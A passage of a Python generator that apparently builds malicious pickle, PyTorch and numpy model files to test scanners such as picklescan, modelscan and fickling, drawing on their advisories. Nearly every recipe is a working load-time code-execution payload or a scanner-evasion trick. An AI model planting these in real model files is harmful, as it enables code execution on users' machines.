                pickle.BINBYTES + struct.pack("<I", len(code)) + code,
                T1,
                R,
                MEMO,
                _sg("types", "FunctionType"),
                MEMO,
                _bget(2),
                _bget(1),
                pickle.EMPTY_DICT,
                T2,
                R,
                MEMO,
                _bget(3),
                pickle.EMPTY_TUPLE,
                R,
                MEMO,
                STOP,
            ]
        ),
    )


@_recipe(
    "fk-GHSA-wfq2-runpy-run-path",
    "stdlib-exec",
    f"{FK} test_missing_runpy (run_path)",
    "pickle",
    ".pkl",
)
def _(ctx: Ctx) -> None:
    script = os.path.join(ctx.aux, "payload.py")
    with open(script, "w") as fh:
        fh.write(ctx.py + "\n")
    _write(ctx, P5 + _sg("runpy", "run_path") + MEMO + _u(script) + T1 + R + STOP)


def _getattr_chain(ctx: Ctx, target: bytes, attr: str, arg: bytes) -> bytes:
    """builtins.getattr(<target>, attr)(arg): fickling's test_missing_ctypes/_importlib shape."""
    return P5 + _sg("builtins", "getattr") + MEMO + target + _u(attr) + T2 + R + arg + T1 + R + STOP


_add(
    "fk-GHSA-q5qq-ctypes-cdll-getattr",
    "stdlib-exec",
    f"{FK} test_missing_ctypes",
    "pickle",
    ".pkl",
    lambda c: _write(
        c,
        _getattr_chain(
            c,
            _sg("ctypes", "CDLL") + pickle.NONE + T1 + R,
            "system",
            pickle.SHORT_BINBYTES + bytes([len(c.sh.encode())]) + c.sh.encode(),
        ),
    ),
)
_add(
    "fk-GHSA-q5qq-importlib-getattr",
    "stdlib-exec",
    f"{FK} test_missing_importlib",
    "pickle",
    ".pkl",
    lambda c: _write(
        c,
        _getattr_chain(
            c, _sg("importlib", "import_module") + _u("os") + T1 + R, "system", _u(c.sh)
        ),
    ),
)
_add(
    "fk-GHSA-q5qq-code-interactive-interpreter",
    "stdlib-exec",
    f"{FK} test_missing_code",
    "pickle",
    ".pkl",
    lambda c: _write(
        c,
        _getattr_chain(
            c, _sg("code", "InteractiveInterpreter") + pickle.EMPTY_TUPLE + R, "runsource", _u(c.py)
        ),
    ),
)
_add(
    "fk-GHSA-5hvc-pydoc-locate",
    "stdlib-exec",
    f"{FK} test_missing_pydoc",
    "pickle",
    ".pkl",
    lambda c: _write(
        c, P5 + _sg("pydoc", "locate") + _u("os.system") + T1 + R + _u(c.sh) + T1 + R + STOP
    ),
)
_add(
    "fk-GHSA-p523-cprofile-run",
    "stdlib-exec",
    f"{FK} test_missing_cprofile",
    "pickle",
    ".pkl",
    lambda c: _write(c, P5 + _sg("cProfile", "run") + _u(c.py) + T1 + R + STOP),
)
_add(
    "fk-GHSA-h4rm-builtins-import-getattr",
    "stdlib-exec",
    f"{FK} test_builtins_import_bypass",
    "pickle",
    ".pkl",
    lambda c: _write(
        c,
        _g("builtins", "__import__")
        + _s("os")
        + T1
        + R
        + pickle.PUT
        + b"0\n"
        + POP
        + _g("builtins", "getattr")
        + pickle.GET
        + b"0\n"
        + _s("system")
        + T2
        + R
        + pickle.PUT
        + b"1\n"
        + POP
        + pickle.GET
        + b"1\n"
        + _s(c.sh)
        + T1
        + R
        + STOP,
    ),
)
_add(
    "fk-builtins-eval",
    "stdlib-exec",
    f"{FK} test_unsafe_builtin_eval_still_flagged",
    "pickle",
    ".pkl",
    lambda c: _write(c, _g("builtins", "eval") + _s(c.py) + T1 + R + STOP),
)
_add(
    "fk-GHSA-mxhj-obj-pop-invisibility",
    "opcode-tricks",
    f"{FK} test_obj_pop_call_invisibility (OBJ result discarded by POP)",
    "pickle",
    ".pkl",
    lambda c: _write(
        c,
        P4
        + MARK
        + _sg("subprocess", "Popen")
        + pickle.EMPTY_LIST
        + MARK
        + _u("touch")
        + _u(c.marker)
        + pickle.APPENDS
        + pickle.OBJ
        + POP
        + pickle.NONE
        + STOP,
    ),
)
_add(
    "fk-GHSA-5j3x-pathlib-dotted-os-system",
    "opcode-tricks",
    f"{FK} test_dotted_attr_via_stdlib_module (STACK_GLOBAL 'pathlib' 'os.system')",
    "pickle",
    ".pkl",
    lambda c: _write(c, P4 + _sg("pathlib", "os.system") + _u(c.sh) + T1 + R + STOP),
)
_add(
    "fk-frame-boundary-raw",
    "opcode-tricks",
    f"{FK} test_frame_boundary_divergence (CPython issue 154848)",
    "pickle",
    ".pkl",
    lambda c: _write(c, frame_trick(_system(c))),
)


# opcode tricks beyond the peers' suites: every way pickle reaches a callable


@_recipe(
    "op-newobj-partial",
    "opcode-tricks",
    "NEWOBJ builds a functools.partial; REDUCE calls it",
    "pickle",
    ".pkl",
)
def _(ctx: Ctx) -> None:
    _write(
        ctx,
        P4
        + _sg("functools", "partial")
        + _sg("os", "system")
        + _u(ctx.sh)
        + T2
        + pickle.NEWOBJ
        + pickle.EMPTY_TUPLE
        + R
        + STOP,
    )


@_recipe(
    "op-newobj-ex-partial",
    "opcode-tricks",
    "NEWOBJ_EX builds a functools.partial",
    "pickle",
    ".pkl",
)
def _(ctx: Ctx) -> None:
    _write(
        ctx,
        P4
        + _sg("functools", "partial")
        + _sg("os", "system")
        + _u(ctx.sh)
        + T2
        + pickle.EMPTY_DICT
        + pickle.NEWOBJ_EX
        + pickle.EMPTY_TUPLE
        + R
        + STOP,
    )


def _build_setstate(ctx: Ctx, cls: tuple[str, str]) -> bytes:
    # BUILD with (None, {"__setstate__": os.system}) sets an instance attribute; a second
    # BUILD then calls inst.__setstate__(state) = os.system(state)
    return (
        P4
        + _sg(*cls)
        + pickle.EMPTY_TUPLE
        + pickle.NEWOBJ
        + pickle.NONE
        + pickle.EMPTY_DICT
        + _u("__setstate__")
        + _sg("os", "system")
        + pickle.SETITEM
        + T2
        + pickle.BUILD
        + _u(ctx.sh)
        + pickle.BUILD
        + STOP
    )


_add(
    "op-build-setstate-namespace",
    "opcode-tricks",
    "BUILD slot state plants __setstate__ on an argparse.Namespace (modelscan issue #85: BUILD "
    "is setattr)",
    "pickle",
    ".pkl",
    lambda c: _write(c, _build_setstate(c, ("argparse", "Namespace"))),
)
_add(
    "op-build-setstate-simplenamespace",
    "opcode-tricks",
    "BUILD slot state plants __setstate__ on a types.SimpleNamespace",
    "pickle",
    ".pkl",
    lambda c: _write(c, _build_setstate(c, ("types", "SimpleNamespace"))),
)


@_recipe(
    "op-copyreg-extension",
    "opcode-tricks",
    "copyreg.add_extension, then EXT1: a global no GLOBAL opcode names",
    "pickle",
    ".pkl",
)
def _(ctx: Ctx) -> None:
    _write(
        ctx,
        P2
        + _g("copyreg", "add_extension")
        + _v("os")
        + _v("system")
        + pickle.BININT1
        + b"\xf1"
        + T3
        + R
        + POP
        + pickle.EXT1
        + b"\xf1"
        + _v(ctx.sh)
        + T1
        + R
        + STOP,
    )


@_recipe(
    "op-copyreg-extension-ext2",
    "opcode-tricks",
    "copyreg.add_extension, then EXT2",
    "pickle",
    ".pkl",
)
def _(ctx: Ctx) -> None:
    _write(
        ctx,
        P2
        + _g("copyreg", "add_extension")
        + _v("subprocess")
        + _v("getoutput")
        + pickle.BININT2
        + b"\x34\x12"
        + T3
        + R
        + POP
        + pickle.EXT2
        + b"\x34\x12"
        + _v(ctx.sh)
        + T1
        + R
        + STOP,
    )


@_recipe(
    "op-copyreg-extension-ext4",
    "opcode-tricks",
    "copyreg.add_extension, then EXT4",
    "pickle",
    ".pkl",
)
def _(ctx: Ctx) -> None:
    _write(
        ctx,
        P2
        + _g("copyreg", "add_extension")
        + _v("builtins")
        + _v("exec")
        + pickle.BININT
        + struct.pack("<i", 0x123456)
        + T3
        + R
        + POP
        + pickle.EXT4
        + struct.pack("<i", 0x123456)
        + _v(ctx.py)
        + T1
        + R
        + STOP,
    )


@_recipe(
    "op-long-binget-stack-global",
    "opcode-tricks",
    "STACK_GLOBAL via LONG_BINPUT/LONG_BINGET memo slots",
    "pickle",
    ".pkl",
)
def _(ctx: Ctx) -> None:
    put = lambda i: pickle.LONG_BINPUT + struct.pack("<I", i)  # noqa: E731
    get = lambda i: pickle.LONG_BINGET + struct.pack("<I", i)  # noqa: E731
    _write(
        ctx,
        P4
        + _u("os")
        + put(70000)
        + POP
        + _u("system")
        + put(70001)
        + POP
        + get(70000)
        + get(70001)
        + pickle.STACK_GLOBAL
        + _u(ctx.sh)
        + T1
        + R
        + STOP,
    )


@_recipe(
    "op-stack-global-joined-name",
    "opcode-tricks",
    "modelscan issue #331: the module name is built at load time (str.join)",
    "pickle",
    ".pkl",
)
def _(ctx: Ctx) -> None:
    join = _g("builtins", "getattr") + _u("") + _u("join") + T2 + R
    _write(
        ctx,
        P4
        + join
        + pickle.EMPTY_LIST
        + MARK
        + _u("o")
        + _u("s")
        + pickle.APPENDS
        + T1
        + R
        + _u("system")
        + pickle.STACK_GLOBAL
        + _u(ctx.sh)
        + T1
        + R
        + STOP,
    )


@_recipe(
    "op-protocol0-builtin-fix-imports",
    "opcode-tricks",
    "protocol 0 GLOBAL '__builtin__ exec' (fix_imports maps it to builtins)",
    "pickle",
    ".pkl",
)
def _(ctx: Ctx) -> None:
    _write(ctx, b"c__builtin__\nexec\n(" + _s(ctx.py) + b"tR.")


@_recipe(
    "op-posix-system",
    "opcode-tricks",
    "os.system pickled under its real module: posix",
    "pickle",
    ".pkl",
)
def _(ctx: Ctx) -> None:
    _write(ctx, P2 + _g("posix", "system") + _v(ctx.sh) + T1 + R + STOP)


@_recipe(
    "op-reduce-in-dict-value",
    "opcode-tricks",
    "the payload nested deep in an ordinary-looking dict (BINPUT/SETITEMS)",
    "pickle",
    ".pkl",
)
def _(ctx: Ctx) -> None:
    _write(ctx, _dump({"epoch": 3, "meta": {"notes": [1, 2, {"x": Call(os.system, ctx.sh)}]}}, 2))


# ------------------------------------------------------------------------------------------
# zip structure (loader: torch.load)

ZIP = "zip structure"


def _zip_recipe(name: str, source: str, make: Callable[[Ctx], bytes], **kw: Any) -> None:
    _add(name, "zip-structure", source, "torch", ".pt", lambda c: _write(c, make(c)), **kw)


_zip_recipe(
    "zip-state-dict-payload",
    "modelscan test_scan_pytorch: a torch.save zip with a payload",
    _mal_zip,
)
_zip_recipe(
    "zip-renamed-archive-folder",
    "modelscan tests/data/unsafe_zip_pytorch.pt (archive folder named by the file)",
    lambda c: _zip_bytes(
        [(n.replace("archive/", "unsafe_zip_pytorch/", 1), d) for n, d in _members(_payload_sd(c))]
    ),
)
_zip_recipe(
    "zip-odd-folder-name",
    "the archive folder named with spaces and dots",
    lambda c: _zip_bytes(
        [(n.replace("archive/", ".. weird name/", 1), d) for n, d in _members(_payload_sd(c))]
    ),
)
_zip_recipe(
    "zip-duplicate-data-pkl-first",
    "duplicate member names: the malicious data.pkl first, a benign one second "
    "(Python's zipfile keeps the last; torch's reader finds the first here)",
    lambda c: _zip_bytes(
        [
            ("archive/data.pkl", dict(_members(_payload_sd(c)))["archive/data.pkl"]),
            *_members(_model_state()),
        ]
    ),
)
_zip_recipe(
    "zip-duplicate-data-pkl-appended",
    "duplicate member names: a benign data.pkl appended after the malicious archive",
    lambda c: _zip_bytes(
        [
            *_members(_payload_sd(c)),
            ("archive/data.pkl", dict(_members(_model_state()))["archive/data.pkl"]),
        ]
    ),
)
_zip_recipe(
    "zip-decoy-data-pkl-in-subfolder",
    "a benign archive/x/data.pkl listed first, the real archive/data.pkl after it",
    lambda c: _zip_bytes(
        [
            ("archive/x/data.pkl", dict(_members(_model_state()))["archive/data.pkl"]),
            *_members(_payload_sd(c)),
        ]
    ),
)
_zip_recipe(
    "zip-data-pkl-last-member",
    "data.pkl placed after every other member",
    lambda c: _zip_bytes(sorted(_members(_payload_sd(c)), key=lambda m: m[0].endswith("data.pkl"))),
)
_zip_recipe(
    "zip-suffix-bytes",
    "bytes appended after the end of central directory",
    lambda c: _mal_zip(c) + b"\x00" * 300,
)
_zip_recipe(
    "zip-comment",
    "a zip comment",
    lambda c: _zip_bytes(_members(_payload_sd(c)), comment=b"checkpoint " * 40),
)
_zip_recipe(
    "zip-deflated",
    "members deflated instead of stored",
    lambda c: _zip_bytes(_members(_payload_sd(c)), comp=zipfile.ZIP_DEFLATED),
)
_zip_recipe(
    "zip-zip64",
    "zip64 extra fields on every member",
    lambda c: _zip_bytes(_members(_payload_sd(c)), zip64=True),
)


def _set_local_flag(data: bytes, bit: int) -> bytes:
    out = bytearray(data)
    i = 0
    while (i := out.find(b"PK\x03\x04", i)) >= 0:
        out[i + 6] |= bit
        i += 4
    return bytes(out)


for _bit, _why in (
    (0x1, "encrypted"),
    (0x8, "data descriptor"),
    (0x20, "patched data"),
    (0x40, "strong encryption"),
):
    _zip_recipe(
        f"zip-local-flag-{_bit:#x}",
        f"picklescan advisory GHSA-w8jq-xcqf-f792 / tests/data/malicious1_{_bit:#x}.zip: "
        f"the '{_why}' flag in local headers only (torch reads the central directory)",
        lambda c, b=_bit: _set_local_flag(_mal_zip(c), b),
    )


def _corrupt_crc(data: bytes) -> bytes:
    out = bytearray(data)
    zf = zipfile.ZipFile(io.BytesIO(data))
    info = next(i for i in zf.infolist() if i.filename.endswith("data.pkl"))
    out[info.header_offset + 14] ^= 0xFF
    cd = out.find(b"PK\x01\x02")
    while cd >= 0:
        name_len = struct.unpack("<H", out[cd + 28 : cd + 30])[0]
        if out[cd + 46 : cd + 46 + name_len].endswith(b"data.pkl"):
            out[cd + 16] ^= 0xFF
        cd = out.find(b"PK\x01\x02", cd + 4)
    return bytes(out)


_zip_recipe(
    "zip-root-data-pkl",
    "picklescan tests/data/malicious1.zip: data.pkl at the root of a plain zip (torch.load "
    "refuses it: expected payload-not-run)",
    lambda c: _zip_bytes([("data.pkl", _dump(Call(eval, c.py)))]),
)
_zip_recipe(
    "zip-second-archive-other-folder",
    "picklescan mock archive/data.pkl: a malicious archive under another folder beside a benign "
    "one (torch.load refuses mixed folders: expected payload-not-run)",
    lambda c: _zip_bytes(
        [
            *_members(_model_state()),
            *((n.replace("archive/", "evil/", 1), d) for n, d in _members(_payload_sd(c))),
        ]
    ),
)
_zip_recipe(
    "zip-bad-crc",
    "picklescan tests/data2/malicious1_crc.zip: CRC-32 that does not match",
    lambda c: _corrupt_crc(_mal_zip(c)),
)
_zip_recipe(
    "zip-local-name-mismatch",
    "picklescan tests/data/malicious1_central_directory.zip: the local header names "
    "datap.kl, the central directory data.pkl",
    lambda c: _mal_zip(c).replace(b"archive/data.pkl", b"archive/datap.kl", 1),
)
_zip_recipe(
    "zip-pickle-prefix-polyglot",
    "fickling test_polyglot prepend_random_string: a pickle before a clean zip; torch "
    "sees no PK magic at offset 0 and unpickles the prefix as a legacy file",
    lambda c: _dump(Call(os.system, c.sh), 2) + _torch_bytes(_model_state()),
)
_zip_recipe(
    "zip-frame-boundary-data-pkl",
    "fickling frame-boundary trick in front of a real torch.save data.pkl (issue 12's miss)",
    lambda c: _zip_bytes(
        _replace(
            _members(_model_state()), "data.pkl", lambda d: frame_trick(_system(c), _body(d), P2)
        )
    ),
)


# ------------------------------------------------------------------------------------------
# modelscan PickleInject: a payload injected into a real checkpoint's pickle


class _PickleInject:
    """modelscan tests/test_utils.py PickleInject: torch.save's pickle_module that saves
    extra objects before (or after) the checkpoint in the same pickle."""

    def __init__(self, objs: list[Any], first: bool = True) -> None:

        class Pickler(pickle._Pickler):  # type: ignore[name-defined]  # torch subclasses it
            def dump(self, obj: Any) -> None:
                if self.proto >= 2:
                    self.write(pickle.PROTO + struct.pack("<B", self.proto))
                if self.proto >= 4:
                    self.framer.start_framing()
                if first:
                    for o in objs:
                        self.save(o)
                self.save(obj)
                if not first:
                    for o in objs:
                        self.save(o)
                self.write(pickle.STOP)
                self.framer.end_framing()

        self.Pickler = Pickler

    def __getattr__(self, name: str) -> Any:
        return getattr(pickle, name)


def _inject(ctx: Ctx, what: str, zip_format: bool, first: bool = True) -> None:
    import runpy

    import torch

    payload = {
        "system": Call(os.system, ctx.sh),
        "exec": Call(exec, ctx.py),
        "eval": Call(eval, ctx.py),
        "runpy": Call(runpy._run_code, ctx.py, {}),
    }[what]
    torch.save(
        _model_state(),
        ctx.path,
        pickle_module=_PickleInject([payload], first),
        _use_new_zipfile_serialization=zip_format,
    )


for _what in ("system", "exec", "eval", "runpy"):
    for _zipf in (True, False):
        _add(
            f"ms-pickleinject-{_what}-{'zip' if _zipf else 'legacy'}",
            "injection",
            f"modelscan tests/test_utils.py PickleInject.{_what.title()} "
            f"(_use_new_zipfile_serialization={_zipf})",
            "torch",
            ".pt",
            lambda c, w=_what, z=_zipf: _inject(c, w, z),
        )
_add(
    "ms-pickleinject-after-zip",
    "injection",
    "modelscan PickleInject(first=False): the payload after the checkpoint",
    "torch",
    ".pt",
    lambda c: _inject(c, "system", True, first=False),
)


@_recipe(
    "inject-lightning-hparams-namespace-setstate",
    "injection",
    "a Lightning-shaped checkpoint whose argparse.Namespace hyper_parameters carry the "
    "BUILD __setstate__ plant",
    "torch",
    ".ckpt",
)
def _(ctx: Ctx) -> None:
    import argparse

    class Planted(argparse.Namespace):  # pickled as argparse.Namespace plus two BUILDs
        def __reduce__(self) -> Any:
            return (argparse.Namespace, (), (None, {"__setstate__": os.system}), None, None)

    data = _torch_bytes({"epoch": 1, "state_dict": _model_state(), "hyper_parameters": Planted()})
    members = _replace(_members_of(data), "data.pkl", lambda d: _second_build(d, ctx))
    _write(ctx, _zip_bytes(members))


def _members_of(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(i.filename, zf.read(i)) for i in zf.infolist()]


def _second_build(stream: bytes, ctx: Ctx) -> bytes:
    # after the BUILD that set __setstate__, a second BUILD passes the command to it
    seen = False
    for op, arg, pos in pickletools.genops(stream):
        if arg == "__setstate__":
            seen = True
        elif seen and op.name == "BUILD":
            return stream[: pos + 1] + _v(ctx.sh) + pickle.BUILD + stream[pos + 1 :]
    raise ValueError("no BUILD after __setstate__")


# ------------------------------------------------------------------------------------------
# legacy torch.save layout (five pickles and raw storages; loader: torch.load)

LEG = "torch/serialization.py _legacy_load"


def _legacy(obj: Any, protocol: int = 2) -> bytes:
    return _torch_bytes(obj, _use_new_zipfile_serialization=False, pickle_protocol=protocol)


def _legacy_replace(ctx: Ctx, index: int, fn: Callable[..., bytes], offset: bool = False) -> None:
    pickles, rest = split_pickles(_legacy(_model_state()), 5)
    if offset:  # fn also takes where the pickle starts in the file
        pickles[index] = fn(pickles[index], sum(len(p) for p in pickles[:index]))
    else:
        pickles[index] = fn(pickles[index])
    _write(ctx, b"".join(pickles) + rest)


_add(
    "legacy-state-dict-payload",
    "legacy-torch",
    "modelscan test_scan_pytorch safe_old_format_pytorch.pt, with a payload",
    "torch",
    ".pt",
    lambda c: _write(c, _legacy(_payload_sd(c))),
)
_add(
    "legacy-magic-number-eval",
    "legacy-torch",
    "picklescan initialize_pytorch_magic_bypass_file (magic number produced by eval)",
    "torch",
    ".pt",
    lambda c: _legacy_replace(
        c, 0, lambda d: _dump(Call(eval, f"({c.py}, 0x1950A86A20F9469CFC6C)[1]"), 2)
    ),
)
_add(
    "legacy-payload-in-protocol-pickle",
    "legacy-torch",
    f"{LEG}: the protocol-version pickle",
    "torch",
    ".pt",
    lambda c: _legacy_replace(c, 1, lambda d: _prepend(_system(c), d)),
)
_add(
    "legacy-payload-in-sys-info",
    "legacy-torch",
    f"{LEG}: the sys_info pickle",
    "torch",
    ".pt",
    lambda c: _legacy_replace(c, 2, lambda d: _dump(Call(os.system, c.sh), 2)),
)
_add(
    "legacy-payload-in-storage-keys",
    "legacy-torch",
    f"{LEG}: the storage-keys pickle after the object",
    "torch",
    ".pt",
    lambda c: _legacy_replace(c, 4, lambda d: _prepend(_system(c), d)),
)
_add(
    "legacy-payload-prepended-to-object",
    "legacy-torch",
    f"{LEG}: a payload run first in the object's pickle",
    "torch",
    ".pt",
    lambda c: _legacy_replace(c, 3, lambda d: _prepend(_system(c), d)),
)
_add(
    "legacy-frame-boundary",
    "legacy-torch",
    "fickling frame-boundary trick in front of a legacy torch.save object pickle",
    "torch",
    ".pt",
    lambda c: _legacy_replace(
        c, 3, lambda d, at: frame_trick(_system(c), _body(d), P2, at), offset=True
    ),
)
for _proto in (0, 1):
    _add(
        f"legacy-protocol{_proto}-payload",
        "legacy-torch",
        f"torch.save(pickle_protocol={_proto}, legacy) with a payload",
        "torch",
        ".pt",
        lambda c, p=_proto: _write(
            c, _legacy({"_hook": Call(os.system, c.sh), **_model_state()}, p)
        ),
    )


# ------------------------------------------------------------------------------------------
# legacy .tar layout (torch's oldest format, still read by torch.load)

TAR = "torch/serialization.py legacy_load (tar); fickling test_polyglot create_pytorch_legacy_tar"


def _tar(
    ctx: Ctx,
    pickle_member: bytes | None = None,
    storages: bytes | None = None,
    tensors: bytes | None = None,
) -> None:
    members = {
        "sys_info": _dump({"protocol_version": 1001, "little_endian": True}, 2),
        "pickle": pickle_member if pickle_member is not None else _dump({"epoch": 1}, 2),
        "storages": storages if storages is not None else _dump(0, 2) + _dump([], 2),
        "tensors": tensors if tensors is not None else _dump(0, 2),
    }
    with tarfile.open(ctx.path, "w:", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))


_add(
    "tar-payload-in-pickle",
    "legacy-tar",
    TAR + ": the 'pickle' member",
    "torch",
    ".tar",
    lambda c: _tar(c, pickle_member=_dump(Call(os.system, c.sh), 2)),
)
_add(
    "tar-payload-in-storages",
    "legacy-tar",
    TAR + ": the 'storages' member",
    "torch",
    ".tar",
    lambda c: _tar(c, storages=_dump(Call(os.system, c.sh), 2)),
)
_add(
    "tar-payload-in-tensors",
    "legacy-tar",
    TAR + ": the 'tensors' member",
    "torch",
    ".tar",
    lambda c: _tar(c, tensors=_dump(Call(os.system, c.sh), 2)),
)
_add(
    "tar-frame-boundary-pickle",
    "legacy-tar",
    TAR + ": frame-boundary trick in 'pickle'",
    "torch",
    ".pth",
    lambda c: _tar(c, pickle_member=frame_trick(_system(c), _body(_dump({"epoch": 1}, 2)), P2)),
)
_add(
    "tar-named-pt",
    "legacy-tar",
    TAR + ": a .tar checkpoint named .pt",
    "torch",
    ".pt",
    lambda c: _tar(
        c, pickle_member=_dump({"epoch": 1, "x": Call(subprocess.call, ["touch", c.marker])}, 2)
    ),
)


# ------------------------------------------------------------------------------------------
# torch gadgets: callables inside torch that run code, load files or import hubconf

TG = "torch-gadgets"


def _torch_gadget(
    name: str, source: str, make: Callable[[Ctx], Any], zip_format: bool = True, **kw: Any
) -> None:
    def build(ctx: Ctx) -> None:
        sd: dict[str, Any] = dict(_model_state())
        sd["_extra"] = make(ctx)
        _write(ctx, _torch_bytes(sd) if zip_format else _legacy(sd))

    _add(name, TG, source, "torch", ".pt", build, **kw)


def _aux_checkpoint(ctx: Ctx) -> str:
    path = os.path.join(ctx.aux, "other_model.bin")
    with open(path, "wb") as fh:
        fh.write(_mal_zip(ctx))
    return path


_torch_gadget(
    "tg-partial-torch-load",
    f"{PS} Malicious19 (functools.partial(torch.load, ..., weights_only=False) of another file)",
    lambda c: Call(
        functools.partial(_lazy("torch", "load"), _aux_checkpoint(c), weights_only=False)
    ),
)
_torch_gadget(
    "tg-storage-load-from-bytes",
    "torch.storage._load_from_bytes: torch.load(weights_only=False) of embedded bytes",
    lambda c: Call(_lazy("torch.storage", "_load_from_bytes"), _mal_zip(c)),
)


def _hubconf(ctx: Ctx) -> str:
    folder = os.path.join(ctx.aux, "hub")
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, "hubconf.py"), "w") as fh:
        fh.write(f"dependencies = []\n\ndef entry():\n    {ctx.py}\n    return None\n")
    return folder


_torch_gadget(
    "tg-torch-hub-load-local",
    "torch.hub.load(source='local') imports hubconf.py",
    lambda c: Call(
        functools.partial(
            _lazy("torch.hub", "load"), _hubconf(c), "entry", source="local", trust_repo=True
        )
    ),
)


def _aux_torchscript(ctx: Ctx) -> str:
    path = os.path.join(ctx.aux, "scripted.pt")
    with open(path, "wb") as fh:
        fh.write(_torchscript_setstate_bytes(ctx.marker))
    return path


_torch_gadget(
    "tg-torch-jit-load",
    "torch.jit.load of a TorchScript file whose __setstate__ writes a file",
    lambda c: Call(_lazy("torch.jit", "load"), _aux_torchscript(c)),
)
_torch_gadget(
    "tg-GHSA-f745-collect-env-run",
    f"{PS_ADV} GHSA-f745-w6jp-hpxx; modelscan issue #338",
    lambda c: Call(_lazy("torch.utils.collect_env", "run"), c.sh),
)
_torch_gadget(
    "tg-GHSA-jhph-collect-env-run-and-read-all",
    f"{PS_ADV} GHSA-jhph-76pp-mggw",
    lambda c: Call(
        _lazy("torch.utils.collect_env", "run_and_read_all"),
        _lazy("torch.utils.collect_env", "run"),
        c.sh,
    ),
)
_torch_gadget(
    "tg-GHSA-vr7h-jit-exec-wrapper",
    f"{PS_ADV} GHSA-vr7h-p6mm-wpmh",
    lambda c: Call(_lazy("torch.jit.unsupported_tensor_ops", "execWrapper"), c.py, {}, {}),
)
_torch_gadget(
    "tg-GHSA-h3qp-datapipes-decoder",
    f"{PS_ADV} GHSA-h3qp-7fh3-f8h4",
    lambda c: Call(
        _lazy("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
        "pickle",
        _dump(Call(os.system, c.sh)),
    ),
)
_torch_gadget(
    "tg-GHSA-vv6j-config-module-load-config",
    f"{PS_ADV} GHSA-vv6j-3g6g-2pvj",
    lambda c: Call(
        _lazy("torch.utils._config_module", "ConfigModule.load_config"),
        {},
        _dump(Call(os.system, c.sh)),
    ),
)
_torch_gadget(
    "tg-torch-load-legacy-file",
    "torch.serialization.load gadget in a legacy torch.save",
    lambda c: Call(
        functools.partial(_lazy("torch", "load"), _aux_checkpoint(c), weights_only=False)
    ),
    zip_format=False,
)


@_recipe(
    "tg-fx-graph-module-import-block",
    TG,
    "torch.fx.graph_module.reduce_graph_module: the import block is exec'd",
    "torch",
    ".pt",
)
def _(ctx: Ctx) -> None:
    body = {
        "_graphmodule_cls_name": "GraphModule",
        "_code": "def forward(self):\n    return None\n",
    }
    sd: dict[str, Any] = dict(_model_state())
    sd["_gm"] = Call(_lazy("torch.fx.graph_module", "reduce_graph_module"), body, ctx.py + "\n")
    _write(ctx, _torch_bytes(sd))


# ------------------------------------------------------------------------------------------
# numpy

NP = "numpy"


def _np_object_array(ctx: Ctx) -> Any:
    import numpy as np

    arr = np.empty(2, dtype=object)
    arr[0] = Call(os.system, ctx.sh)
    arr[1] = "label"
    return arr


def _npy(ctx: Ctx, version: tuple[int, int] | None = None) -> None:
    import numpy as np

    with open(ctx.path, "wb") as fh:
        np.lib.format.write_array(fh, _np_object_array(ctx), version=version, allow_pickle=True)


_add(
    "np-object-array-npy",
    NP,
    f"{PS} initialize_numpy_files dns_exfiltration.npy "
    "(object array; payload pointed at the marker)",
    "numpy",
    ".npy",
    lambda c: _npy(c),
)
_add(
    "np-object-array-npy-v2",
    NP,
    "numpy format version 2.0 header, object array",
    "numpy",
    ".npy",
    lambda c: _npy(c, (2, 0)),
)
_add(
    "np-object-array-npy-v3",
    NP,
    "numpy format version 3.0 header, object array",
    "numpy",
    ".npy",
    lambda c: _npy(c, (3, 0)),
)


@_recipe("np-object-arrays-npz", NP, f"{PS} object_arrays.npz", "numpy", ".npz")
def _(ctx: Ctx) -> None:
    import numpy as np

    np.savez(ctx.path, weights=np.arange(6, dtype=np.float32), meta=_np_object_array(ctx))


@_recipe(
    "np-object-arrays-npz-compressed", NP, f"{PS} object_arrays_compressed.npz", "numpy", ".npz"
)
def _(ctx: Ctx) -> None:
    import numpy as np

    np.savez_compressed(ctx.path, a=np.arange(3), b=_np_object_array(ctx))


@_recipe(
    "np-npz-member-without-npy-suffix",
    NP,
    "an npz member named without .npy (numpy.load still reads it)",
    "numpy",
    ".npz",
)
def _(ctx: Ctx) -> None:
    import numpy as np

    buf = io.BytesIO()
    np.lib.format.write_array(buf, _np_object_array(ctx), allow_pickle=True)
    ok = io.BytesIO()
    np.lib.format.write_array(ok, np.zeros(3, dtype=np.float32))
    _write(ctx, _zip_bytes([("w.npy", ok.getvalue()), ("meta", buf.getvalue())]))


_add(
    "np-raw-pickle-named-npy",
    NP,
    f"{MS} numpy_file_path unsafe_numpy.npy (a pickle, read by numpy.load's fallback)",
    "numpy",
    ".npy",
    lambda c: _write(c, _dump([[1, 2, 3], Call(exec, c.py)], 4)),
)


@_recipe(
    "np-npy-frame-boundary",
    NP,
    "fickling frame-boundary trick as an object array's pickle",
    "numpy",
    ".npy",
)
def _(ctx: Ctx) -> None:
    import numpy as np

    buf = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        buf, {"descr": "|O", "fortran_order": False, "shape": (1,)}
    )
    head = buf.getvalue()
    body = _body(_dump(np.array([1], dtype=object), 2))
    _write(ctx, head + frame_trick(_system(ctx), body, P2, len(head)))


_reg_reduce(
    "np-numpy-load-in-pickle",
    NP,
    "numpy.load(allow_pickle=True) called by a pickle",
    lambda c: Call(functools.partial(_lazy("numpy", "load"), _aux_npy(c), allow_pickle=True)),
)


def _aux_npy(ctx: Ctx) -> str:
    import numpy as np

    path = os.path.join(ctx.aux, "other.npy")
    np.save(path, _np_object_array(ctx), allow_pickle=True)
    return path


_reg_reduce(
    "np-testing-runstring",
    NP,
    f"{PS} Malicious22 (numpy.testing._private.utils.runstring)",
    lambda c: Call(_lazy("numpy.testing._private.utils", "runstring"), c.py, {}),
)
_reg_reduce(
    "np-GHSA-r8g5-f2py-getlincoef",
    NP,
    f"{PS_ADV} GHSA-r8g5-cgf2-4m4m",
    lambda c: Call(_lazy("numpy.f2py.crackfortran", "getlincoef"), c.py, []),
)
_reg_reduce(
    "np-pickled-object-ndarray",
    NP,
    "a pickled object ndarray holding a payload",
    lambda c: _np_object_array(c),
)


@_recipe(
    "np-torch-checkpoint-object-array",
    NP,
